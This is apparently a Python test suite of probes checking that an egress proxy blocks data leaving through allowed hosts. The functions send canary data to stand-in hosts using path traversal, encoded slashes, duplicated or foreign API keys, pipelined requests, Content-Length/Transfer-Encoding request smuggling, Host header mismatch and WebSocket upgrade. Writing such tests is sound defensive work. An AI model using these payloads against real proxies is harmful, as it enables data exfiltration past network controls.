"""Requests to a host that is allowed for some: it is a way out for whoever has an account there."""

from attacks.probes.tools import CANARY, FORBIDDEN, PROXY, ask_proxy, attack, say_in_tls, send_stream

OPENED, BOUND = "opened.example:443", "bound.example:443"
OWN_KEY = "key-of-this-account"


@attack("requests", is_inside=True)
def another_method() -> None:
    """A rule for reading does not let anything be written."""
    body = CANARY
    say_in_tls(
        OPENED,
        f"POST /repos/acme/x HTTP/1.1\r\nHost: opened.example\r\nContent-Length: {len(body)}\r\n\r\n{body}",
    )


@attack("requests", is_inside=True)
def another_path() -> None:
    """A rule for one repository is for no other."""
    say_in_tls(OPENED, f"GET /repos/other/{CANARY} HTTP/1.1\r\nHost: opened.example\r\n\r\n")


@attack("requests", is_inside=True)
def dots() -> None:
    """Not by way of `..`."""
    say_in_tls(OPENED, f"GET /repos/acme/../other/{CANARY} HTTP/1.1\r\nHost: opened.example\r\n\r\n")


@attack("requests", is_inside=True)
def encoded_dots() -> None:
    """Nor encoded."""
    say_in_tls(OPENED, f"GET /repos/acme/%2e%2e/other/{CANARY} HTTP/1.1\r\nHost: opened.example\r\n\r\n")


@attack("requests", is_inside=True)
def encoded_slash() -> None:
    """Nor with a slash that is none to whoever compares."""
    say_in_tls(OPENED, f"GET /repos/acme/..%2fother/{CANARY} HTTP/1.1\r\nHost: opened.example\r\n\r\n")


@attack("requests", is_inside=True)
def another_account() -> None:
    """An allowed host under somebody else's key is another place."""
    say_in_tls(BOUND, f"GET /{CANARY} HTTP/1.1\r\nHost: bound.example\r\nx-api-key: somebody-else\r\n\r\n")


@attack("requests", is_inside=True)
def two_accounts() -> None:
    """Also where the right key stands beside it."""
    keys = f"x-api-key: {OWN_KEY}\r\nx-api-key: somebody-else\r\n"
    say_in_tls(BOUND, f"GET /{CANARY} HTTP/1.1\r\nHost: bound.example\r\n{keys}\r\n")


@attack("requests", is_inside=True)
def second_request() -> None:
    """Every request of a connection is looked at, not the first alone."""
    first = "GET /repos/acme/x HTTP/1.1\r\nHost: opened.example\r\n\r\n"
    second = f"GET /repos/other/{CANARY} HTTP/1.1\r\nHost: opened.example\r\n\r\n"
    say_in_tls(OPENED, first + second)


@attack("boundary", is_inside=True)
def smuggled() -> None:
    """A request inside another's body, by two lengths that differ, is refused (RFC 9112 section 6.1)."""
    inner = f"GET /repos/other/{CANARY} HTTP/1.1\r\nHost: opened.example\r\n\r\n"
    head = "GET /repos/acme/x HTTP/1.1\r\nHost: opened.example\r\n"
    head += f"Content-Length: {len(inner) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    say_in_tls(OPENED, head + inner)


@attack("boundary", is_inside=True)
def another_host() -> None:
    """The Host header is the host that the connection leads to."""
    say_in_tls(OPENED, f"GET /repos/acme/x HTTP/1.1\r\nHost: {CANARY}.example\r\n\r\n")


@attack("boundary", is_inside=True)
def upgraded() -> None:
    """A connection that becomes something else cannot be looked into."""
    head = "GET /repos/acme/x HTTP/1.1\r\nHost: opened.example\r\nConnection: upgrade\r\n"
    say_in_tls(OPENED, head + f"Upgrade: websocket\r\nSec-WebSocket-Key: {CANARY}\r\n\r\n")


@attack("rules")
def plain_to_another_host() -> None:
    """HTTP in clear is under the same rules as a tunnel."""
    if not PROXY:
        send_stream(FORBIDDEN, 80)
    ask_proxy(f"GET http://forbidden.example/{CANARY} HTTP/1.1\r\nHost: forbidden.example\r\n\r\n".encode())
